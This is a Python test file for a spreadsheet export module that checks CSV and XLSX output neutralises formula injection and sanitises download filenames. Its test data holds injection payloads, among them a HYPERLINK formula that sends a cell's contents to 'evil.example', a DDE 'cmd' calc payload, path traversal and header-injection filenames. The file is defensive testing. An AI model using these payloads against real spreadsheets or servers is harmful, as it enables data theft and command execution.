import csv
import io
import tracemalloc
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from hub.core.spreadsheets import safe_cell, stream_csv, stream_xlsx
from hub.core.workbook import write_workbook

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-5",
    "+44 7700 900123",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "=1+1\n=2+2",
    '="";=1',
    "=",
]


def _read(response):
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:], newline="")))


def _sheet(response):
    (sheet,) = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets
    return sheet


def _rows(response):
    return [list(row) for row in _sheet(response).iter_rows(values_only=True)]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_become_text(formula):
    assert safe_cell(formula) == f"'{formula}"


@pytest.mark.parametrize("value", [0, -5, 3.25, -0.5, Decimal("-12.50")])
def test_real_numbers_stay_numbers(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", ""),
        ("Falls = fewer", "Falls = fewer"),
        ("'=1+1", "'=1+1"),
        (True, "True"),
        (date(2025, 3, 30), "2025-03-30"),
    ],
)
def test_other_values_become_their_text(value, cell):
    assert safe_cell(value) == cell


def test_an_object_whose_text_is_a_formula_becomes_text():
    class Person:
        def __str__(self):
            return "=1+1"

    assert safe_cell(Person()) == "'=1+1"


@given(st.text())
def test_no_text_comes_out_as_a_formula(text):
    assert not str(safe_cell(text)).lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_csv_reads_back_with_formulas_neutralised():
    rows = [[formula, -5, None, "Zoë, “ward 7”"] for formula in FORMULAS]

    answer = _read(stream_csv("people.csv", ["=Name", "Change", "Left", "Note"], rows))

    assert answer[0] == ["'=Name", "Change", "Left", "Note"]
    assert answer[1:] == [[f"'{formula}", "-5", "", "Zoë, “ward 7”"] for formula in FORMULAS]


def test_rows_are_read_only_as_they_are_sent():
    read = []

    def rows():
        for number in range(3):
            read.append(number)
            yield [number]

    chunks = iter(stream_csv("x", ["n"], rows()).streaming_content)

    assert (next(chunks), list(read)) == ("\ufeffn\r\n".encode(), [])
    assert (next(chunks), list(read)) == (b"0\r\n", [0])
    assert (next(chunks), list(read)) == (b"1\r\n", [0, 1])


def test_half_a_surrogate_pair_does_not_break_the_download():
    assert _read(stream_csv("x", ["n"], [["a\ud83d"]])) == [["n"], ["a?"]]


@pytest.mark.parametrize(
    ("filename", "header"),
    [
        ("sign-ups.csv", 'attachment; filename="sign-ups.csv"'),
        ("sign-ups", 'attachment; filename="sign-ups.csv"'),
        ("Sign-ups.CSV", 'attachment; filename="Sign-ups.csv"'),
        ("../../etc/passwd", 'attachment; filename="etc-passwd.csv"'),
        ('a"; filename="b.exe', 'attachment; filename="a-; filename=-b.exe.csv"'),
        ("a\r\nSet-Cookie: x=1", 'attachment; filename="a-Set-Cookie- x=1.csv"'),
        ("evil\u202egpj.csv", 'attachment; filename="evil-gpj.csv"'),
        ("Café.csv", "attachment; filename*=utf-8''Caf%C3%A9.csv"),
        ("", 'attachment; filename="export.csv"'),
        (".csv", 'attachment; filename="csv.csv"'),
        ("x" * 300, f'attachment; filename="{"x" * 100}.csv"'),
    ],
)
def test_the_file_is_an_attachment_with_a_safe_name(filename, header):
    assert stream_csv(filename, [], [])["Content-Disposition"] == header


def test_the_answer_is_utf8_csv_that_no_cache_keeps():
    response = stream_csv("x", ["n"], [])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"


def test_a_workbook_holds_formulas_as_text():
    sheet = _sheet(stream_xlsx("people.xlsx", ["=Name"], [[formula] for formula in FORMULAS]))

    cells = [row[0] for row in sheet.iter_rows()]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells] == ["'=Name", *(f"'{formula}".replace("\r", "\n") for formula in FORMULAS)]


def test_a_workbook_holds_numbers_as_numbers():
    values = [0, -5, 3.25, Decimal("-12.50"), 10**12]

    (_, row) = _sheet(stream_xlsx("x", ["n"], [values])).iter_rows()

    assert [(cell.data_type, cell.value) for cell in row] == [("n", value) for value in values]


def test_a_workbook_holds_days_and_local_times_that_can_be_sorted():
    summer = datetime(2026, 6, 2, 11, 30, 15, tzinfo=UTC)
    winter = datetime(2026, 10, 25, 1, 30, tzinfo=UTC)
    naive = datetime(2026, 3, 29, 1, 59, 59)  # noqa: DTZ001 -- the point of the test

    (_, row) = _sheet(stream_xlsx("x", ["n"], [[summer, winter, naive, date(2026, 3, 29)]])).iter_rows()

    assert [cell.value for cell in row] == [
        datetime(2026, 6, 2, 12, 30, 15),  # noqa: DTZ001 -- sheets know no zones
        datetime(2026, 10, 25, 1, 30),  # noqa: DTZ001 -- sheets know no zones
        naive,
        datetime(2026, 3, 29),  # noqa: DTZ001 -- sheets know no zones
    ]
    assert [cell.number_format.replace("\\", "") for cell in row] == ["yyyy-mm-dd hh:mm"] * 3 + ["yyyy-mm-dd"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, None),
        ("", None),
        (True, "True"),
        (float("nan"), "nan"),
        (float("inf"), "inf"),
        (Decimal("NaN"), "NaN"),
        (time(9, 30), "09:30:00"),
        (date(1850, 5, 12), "1850-05-12"),
        ("Zoë, “ward 7” <b>&amp;</b> 🙂", "Zoë, “ward 7” <b>&amp;</b> 🙂"),
        (" two  spaces ", " two  spaces "),
        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
        ("a\x00b\x1fc\ufffed\ud83de", "a?b?c?d?e"),
        ("x" * 40_000, "x" * 32_767),
        ("🙂" * 20_000, "🙂" * 16_383),
    ],
)
def test_other_values_in_a_workbook(value, cell):
    assert _rows(stream_xlsx("x", ["n", "end"], [[value, "end"]])) == [["n", "end"], [cell, "end"]]


def test_a_text_that_looks_like_an_escaped_letter_is_kept_from_being_one():
    """Excel shows _x0041_ as A, and _x005F_x0041_ as _x0041_."""
    assert _rows(stream_xlsx("x", ["n"], [["_x0041_ _x_"]]))[1] == ["_x005F_x0041_ _x_"]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=50), min_size=1, max_size=5))
def test_any_text_gives_a_workbook_that_opens(texts):
    (row,) = _rows(stream_xlsx("x", texts, []))

    assert len(row) <= len(texts)
    assert all(value is None or isinstance(value, str) for value in row)


def test_the_titles_are_bold_and_stay_in_sight():
    sheet = _sheet(stream_xlsx("x", ["Name"], [["Sam"]]))

    assert (sheet["A1"].font.bold, bool(sheet["A2"].font.bold), sheet.freeze_panes) == (True, False, "A2")


def test_a_workbook_is_an_attachment_that_no_cache_keeps():
    response = stream_xlsx("../Sign-ups.XLSX", ["n"], [])

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="Sign-ups.xlsx"'
    assert response["Cache-Control"] == "private, no-store"


def test_rows_of_a_workbook_are_read_as_it_is_sent_and_let_go_when_nobody_listens():
    read, ended = [], []

    def rows():
        try:
            for number in range(100_000):
                read.append(number)
                yield [number, "words " * 50]
        finally:
            ended.append(True)

    pieces = write_workbook(["n", "words"], rows())
    next(pieces)
    pieces.close()

    assert (len(read) < 5_000, ended) == (True, [True])


def _peak(export, rows):
    """The most memory that sending so many rows took, in bytes."""
    at = datetime(2026, 6, 2, 11, 30, tzinfo=UTC)
    table = ([f"Person {number}", f"person{number}@example.org", number, at, "Wheelchair"] for number in range(rows))
    tracemalloc.start()
    for _ in export("x", ["Name", "Email", "Number", "At", "Needs"], table).streaming_content:
        pass
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak


@pytest.mark.parametrize("export", [stream_csv, stream_xlsx])
def test_many_rows_take_no_more_memory_than_few(export):
    _peak(export, 100)

    assert _peak(export, 10_000) / _peak(export, 100) <= 1.2
